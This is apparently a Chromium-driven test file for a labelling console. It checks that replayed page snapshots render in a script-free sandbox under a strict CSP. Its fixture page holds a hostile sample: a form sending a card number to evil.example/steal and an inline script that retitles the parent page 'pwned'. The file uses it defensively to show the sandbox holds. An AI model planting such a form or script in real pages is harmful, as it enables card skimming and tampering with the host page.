/**
 * The labelling console in real headless Chromium: it walks training sessions to a
 * selector, replays the page state in a sandbox where the page's scripts never run, and a
 * click on an element records the label.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchChromium, type Browser } from '../helpers/chromium.ts';
import { TOKEN_A, raw, startTestService, type TestService } from '../helpers/service.ts';

let browser: Browser;
let t: TestService;
beforeAll(async () => {
  browser = await launchChromium();
  t = await startTestService();
});
afterAll(async () => {
  await browser?.close();
  await t?.close();
});

const PAGE = `<!doctype html><html><head><title>Checkout</title><link rel="stylesheet" href="/css/site.css"></head>
<body><h1>Checkout</h1>
<script>document.body.setAttribute('data-script-ran', 'yes'); parent.document.title = 'pwned';</script>
<form action="https://evil.example/steal"><input name="card" placeholder="Card number"><button type="submit">Pay now</button></form>
</body></html>`;

test('the console is served without auth, with a strict CSP', async () => {
  const answer = await raw(t.url, '/console', { token: null });
  expect(answer.status).toBe(200);
  expect(answer.headers.get('content-type')).toMatch(/^text\/html/);
  const csp = answer.headers.get('content-security-policy')!;
  expect(csp).toContain("default-src 'none'");
  expect(csp).toMatch(/script-src 'nonce-[^']+'/);
  expect(answer.text).toContain('sandbox="allow-same-origin"');
  expect(answer.text).not.toMatch(/allow-scripts/);
});

test('a person labels a selector by clicking the element in the sandboxed replay, styled by its stored stylesheet, and the page script never runs', async () => {
  const session = await t.client.createSession({ workflow_name: 'checkout', is_training: true });
  const css = await t.client.createPageResource({ url: 'https://shop.example/css/site.css', resource_type: 'stylesheet', content_type: 'text/css', content: Buffer.from('button { color: rgb(1, 2, 3) }').toString('base64') });
  const state = await t.client.createPageState({ url: 'https://shop.example/checkout', content: PAGE, field_values: [], session_id: session.id, allowed_resource_ids: [css.id] });
  const selector = await t.client.train({ text: 'the Pay now button', session_id: session.id, page_state_id: state.id });

  const page = await browser.context.newPage();
  await page.goto(`${t.url}/console`);
  await page.fill('#token', TOKEN_A);
  await page.click('#login button');
  await page.click(`#sessions li:has-text("${session.session_name}")`);
  await page.click('#selectors li:has-text("the Pay now button")');

  const frame = page.frameLocator('#replay');
  await expect.poll(() => page.evaluate(() => {
    const button = (document.getElementById('replay') as HTMLIFrameElement).contentDocument?.querySelector('button');
    return button ? getComputedStyle(button).color : null;
  })).toBe('rgb(1, 2, 3)');
  await frame.locator('button:has-text("Pay now")').click();
  await expect.poll(async () => (await t.client.getPageSelector(selector.id)).selected_xpaths, { timeout: 5000 }).toEqual(['/html/body/form/button']);

  // Two locks keep the page's script from running: the sandbox without allow-scripts, and the
  // console's CSP, which the srcdoc frame inherits. Either alone would do.
  expect(await page.locator('#replay').getAttribute('sandbox')).toBe('allow-same-origin');
  expect(await frame.locator('body').getAttribute('data-script-ran')).toBeNull();
  expect(await page.title()).toBe('page-selector labelling console');
  expect(page.url()).toBe(`${t.url}/console`);
  expect(await page.locator('#status').textContent()).toContain('labelled "the Pay now button"');
  await page.close();
});
